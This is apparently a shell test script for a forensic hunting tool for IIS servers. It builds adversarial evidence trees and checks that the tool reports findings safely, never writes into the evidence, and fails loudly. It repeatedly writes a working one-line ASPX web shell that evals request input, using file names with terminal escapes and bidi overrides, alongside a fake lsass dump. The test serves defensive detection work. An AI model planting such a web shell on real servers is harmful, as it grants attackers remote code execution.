# exhunt hunt against evidence written to fool it: names with terminal
# escapes, newlines, bidi overrides and bytes that are not UTF-8 never
# reach the terminal raw and stay lossless in JSON; hundreds of decoy
# shells never push "reset every credential" out of the advice; the HTML
# page has the back doors, notes and unreadable sections; the report is
# never written through a link, a hard link or into the evidence; a full
# disk or a closed pipe is a failure (exit 3), never a quiet success; a
# file with two names is read once and both are reported; a folder deeper
# than the walk goes is named; FIFOs and links to them or to devices never
# hang the walk.
. "$(dirname "$0")/lib.sh"
tree="$TMP/ev"
web="$tree/inetpub/wwwroot/aspnet_client"
mkdir -p "$web" "$tree/Windows/Temp"
shell='<%@ Page Language="Jscript"%><%eval(Request.Item["q"],"unsafe");%>'
printf '%s' "$shell" > "$web/$(printf 'a\033[2K\r\033[1Aclean.aspx')"
printf '%s' "$shell" > "$web/$(printf 'line\nbreak.aspx')"
printf '%s' "$shell" > "$web/$(printf 'cod\xe2\x80\xaexpsa.aspx')"
printf '%s' "$shell" > "$web/$(printf 'latin\xe9.aspx')"
for i in $(seq 1 300); do printf '%s' "$shell" > "$web/decoy$i.aspx"; done
printf 'MDMP' > "$tree/Windows/Temp/lsass.dmp"
# One file, two names: read once, both reported.
mkdir -p "$tree/ProgramData/x"
printf '%s' "$shell" > "$tree/ProgramData/x/first.aspx"
ln "$tree/ProgramData/x/first.aspx" "$web/second.aspx"
# A sparse file of 200 GB with the shell after its hole: found, quickly.
truncate -s 200G "$tree/inetpub/wwwroot/huge.aspx"
printf '%s' "$shell" >> "$tree/inetpub/wwwroot/huge.aspx"
# A FIFO, and links to it and to a device: never opened, never a hang.
mkfifo "$web/pipe.aspx"
ln -s pipe.aspx "$web/topipe.aspx"
ln -s /dev/zero "$web/zero.aspx"
# Deeper than the walk goes: the folder is named, never lost silently.
deep="$tree/deep"; for i in $(seq 1 600); do deep="$deep/d"; done
mkdir -p "$deep" && printf '%s' "$shell" > "$deep/bottom.aspx"
# (A link's own access time is set by the kernel when it is read, which
# naming its target needs; the report says so. Links are compared without
# it.)
snap() { (cd "$tree" && { find . ! -type l -printf '%p %s %T@ %A@\n'; find . -type l -printf '%p %s %T@ %l\n'; } | sort | sha256sum); }
# Under relatime the first listing of a new folder moves its access time:
# let our own find do that before the snapshot that counts.
snap >/dev/null; sleep 1
before=$(snap)

set +e
timeout 120 "$EXHUNT" hunt "$tree" --no-progress > "$TMP/out.txt" 2>"$TMP/err.txt"; rc=$?
set -e
[ $rc = 1 ] || fail "hunt exit $rc, want 1"
python3 - "$TMP/out.txt" <<'PY' || fail "raw control characters reached the terminal"
import sys
b = open(sys.argv[1], "rb").read()
bad = [c for c in b if (c < 0x20 and c not in (0x0a,)) or c == 0x7f]
if bad or b"\xe2\x80\xae" in b or b"\r" in b:
    print("raw bytes:", sorted(set(bad))[:10]); sys.exit(1)
if b"\\x1b[2K" not in b:
    print("the escape sequence is not shown visibly"); sys.exit(1)
PY
grep -q "Reset every credential" "$TMP/out.txt" || fail "decoys pushed the credential reset out of the advice"
grep -q "Rebuild this server" "$TMP/out.txt" || fail "no rebuild advice"

"$EXHUNT" hunt "$tree" --no-progress --format json -o "$TMP/r.json" 2>/dev/null || true
python3 - "$TMP/r.json" "$web" <<'PY' || fail "JSON names"
import json, os, sys
r = json.load(open(sys.argv[1]))
paths = {f["path"] for f in r["findings"]}
names = {os.fsencode(p).split(b"/")[-1] for p in (q.encode("utf-8", "surrogateescape").decode("utf-8", "surrogateescape") for q in paths)}
d = os.fsencode(sys.argv[2])
want = {n for n in os.listdir(d) if os.path.islink(os.path.join(d, n)) or os.path.isfile(os.path.join(d, n))}
got = {p.encode("utf-8", "surrogateescape").split(b"/")[-1] for p in paths if p.startswith("inetpub/")}
missing = want - got
if missing:
    print("names not kept losslessly:", sorted(missing)[:5]); sys.exit(1)
names = {f["path"] for f in r["findings"] if f["kind"] == "webshell"}
if not {"ProgramData/x/first.aspx", "inetpub/wwwroot/aspnet_client/second.aspx"} <= names:
    print("hard link names:", [n for n in names if "first" in n or "second" in n]); sys.exit(1)
if not any(f["path"] == "inetpub/wwwroot/huge.aspx" and f["kind"] == "webshell" for f in r["findings"]):
    print("the shell after a 200 GB hole was not found"); sys.exit(1)
if not any("nested too deep" in u for u in r["unreadable"]):
    print("deep folder not named"); sys.exit(1)
steps = " ".join(r["next_steps"])
if "Reset every credential" not in steps:
    print("steps:", r["next_steps"]); sys.exit(1)
PY

"$EXHUNT" hunt "$tree" --no-progress --format html -o "$TMP/r.html" 2>/dev/null || true
grep -q "<h2>Back doors</h2>" "$TMP/r.html" && grep -q "<h2>Notes</h2>" "$TMP/r.html" &&
	grep -q "Not read, or read in part" "$TMP/r.html" || fail "HTML sections missing"
python3 - "$TMP/r.html" <<'PY' || fail "raw controls in HTML"
import sys
b = open(sys.argv[1], "rb").read()
if b"\x1b" in b or b"\xe2\x80\xae" in b: sys.exit(1)
PY

# The report never lands in the evidence.
victim="$tree/Windows/Temp/lsass.dmp"
ln -s "$victim" "$TMP/link.json"
ln "$victim" "$TMP/hard.json" 2>/dev/null || cp "$victim" "$TMP/hard.json"
mkdir -p "$TMP/bind"
for out in "$TMP/link.json" "$TMP/hard.json" "$tree/report.json" "$tree/Windows/new.json"; do
	set +e
	"$EXHUNT" hunt "$tree" --no-progress --format json -o "$out" >/dev/null 2>"$TMP/e"; rc=$?
	set -e
	if [ "$out" = "$TMP/hard.json" ] && [ "$(stat -c %h "$victim")" = 1 ]; then continue; fi
	[ $rc = 2 ] || fail "-o $out: exit $rc, want 2 (refused)"
done
[ ! -e "$tree/report.json" ] && [ ! -e "$tree/Windows/new.json" ] || fail "a report was created in the evidence"
if unshare -m true 2>/dev/null; then
	unshare -m bash -c "mount --bind '$tree' '$TMP/bind' && '$EXHUNT' hunt '$tree' --no-progress --format json -o '$TMP/bind/x.json' >/dev/null 2>&1; echo \$? > '$TMP/bindrc'"
	[ "$(cat "$TMP/bindrc")" = 2 ] || fail "a report through a bind mount of the evidence was not refused"
	[ ! -e "$tree/x.json" ] || fail "a report was written through a bind mount"
fi
after=$(snap)
[ "$before" = "$after" ] || fail "the evidence changed (names, sizes, times)"

# Write failures are loud.
set +e
"$EXHUNT" hunt "$tree" --no-progress > /dev/full 2>/dev/null; rc=$?
"$EXHUNT" hunt "$tree" --no-progress --format json -o - > /dev/full 2>/dev/null; rc2=$?
set -e
[ $rc = 3 ] && [ $rc2 = 3 ] || fail "writing to a full disk: exits $rc $rc2, want 3"
# Files made to be slow for the web-shell checks (each was quadratic once:
# a run of "<a" with no '>', calls that never close) finish like any file:
# a guard against a hang, not a timing (bench/hunt measures the ratios).
p="$TMP/patho/inetpub/wwwroot"; mkdir -p "$p"
python3 - "$p" <<'PY'
import sys
d = sys.argv[1]; n = 4 << 20
open(d + "/a.aspx", "w").write("<a" * (n // 2))
open(d + "/b.aspx", "w").write("<%" + "eval(" * (n // 5))
open(d + "/c.aspx", "w").write("<script runat=server " * (n // 21))
open(d + "/d.aspx", "w").write("<%" + ("streamwriter(" * 20 + "request[") * (n // 268))
open(d + "/e.config", "w").write('<configuration><handlers><add type="a" ' * (n // 40))
PY
set +e
timeout 120 "$EXHUNT" hunt "$TMP/patho" --no-progress >/dev/null 2>&1; rc=$?
set -e
[ $rc = 0 ] || [ $rc = 1 ] || [ $rc = 5 ] || fail "pathological files: exit $rc (124 is a hang)"

# Evidence that cannot be read is never "clean": a tree whose only event
# log is damaged beyond reading exits 5 (incomplete), saying why; with a
# web shell beside it, findings win (1).
inc=$TMP/incomplete/Windows/System32/winevt/Logs
mkdir -p "$inc"
head -c 70000 /dev/urandom >"$inc/Security.evtx"
set +e
"$EXHUNT" hunt "$TMP/incomplete" --format json -o "$TMP/inc.json" --no-progress 2>"$TMP/inc.err"; rc=$?
set -e
[ $rc = 5 ] || { cat "$TMP/inc.err"; fail "unreadable evidence only: exit $rc, want 5"; }
grep -q "the hunt is incomplete (exit 5)" "$TMP/inc.err" || fail "no word on exit 5: $(cat "$TMP/inc.err")"
python3 -c 'import json,sys; r=json.load(open(sys.argv[1])); assert r["unreadable"], r' "$TMP/inc.json" ||
	fail "the unreadable log is not listed"
mkdir -p "$TMP/incomplete/inetpub/wwwroot/aspnet_client"
printf '<%%@ Page Language="Jscript"%%><%%eval(Request.Item["z"],"unsafe");%%>' \
	>"$TMP/incomplete/inetpub/wwwroot/aspnet_client/s.aspx"
set +e
"$EXHUNT" hunt "$TMP/incomplete" --no-progress >/dev/null 2>&1; rc=$?
set -e
[ $rc = 1 ] || fail "findings beside unreadable evidence: exit $rc, want 1"

# Nothing to examine is not a clean server: an empty folder, or one of
# documents (the wrong drive), exits 5 and says so in the report; a tree
# with one clean IIS log is examined (exit 0).
mkdir -p "$TMP/none/empty" "$TMP/none/docs/Users/bob" "$TMP/none/iis/inetpub/logs/LogFiles/W3SVC1"
printf 'minutes of the meeting\n' >"$TMP/none/docs/Users/bob/minutes.txt"
for d in empty docs; do
	set +e
	"$EXHUNT" hunt "$TMP/none/$d" --format json -o "$TMP/none-$d.json" --no-progress 2>"$TMP/none.err"; rc=$?
	set -e
	[ $rc = 5 ] || fail "nothing to examine ($d): exit $rc, want 5"
	grep -q "nothing exhunt examines was found" "$TMP/none.err" || fail "no word on an empty hunt: $(cat "$TMP/none.err")"
	python3 - "$TMP/none-$d.json" <<'PY' || fail "the report of a hunt that examined nothing ($d)"
import json, sys
r = json.load(open(sys.argv[1]))
assert r["nothing_examined"] is True, r["nothing_examined"]
assert r["next_steps"][0].startswith("Nothing exhunt examines was found"), r["next_steps"]
assert not any("No trace was found" in s for s in r["next_steps"]), r["next_steps"]
PY
done
printf '#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) sc-status\r\n2021-03-01 10:00:00 10.0.0.5 GET /owa/ - 443 - 10.1.2.3 Mozilla 200\r\n' \
	>"$TMP/none/iis/inetpub/logs/LogFiles/W3SVC1/u_ex210301.log"
set +e
"$EXHUNT" hunt "$TMP/none/iis" --format json -o "$TMP/none-iis.json" --no-progress 2>/dev/null; rc=$?
set -e
[ $rc = 0 ] || fail "a clean IIS log: exit $rc, want 0"
python3 -c 'import json,sys; r=json.load(open(sys.argv[1])); assert r["nothing_examined"] is False' "$TMP/none-iis.json" ||
	fail "a hunt that read a log says it examined nothing"
pass
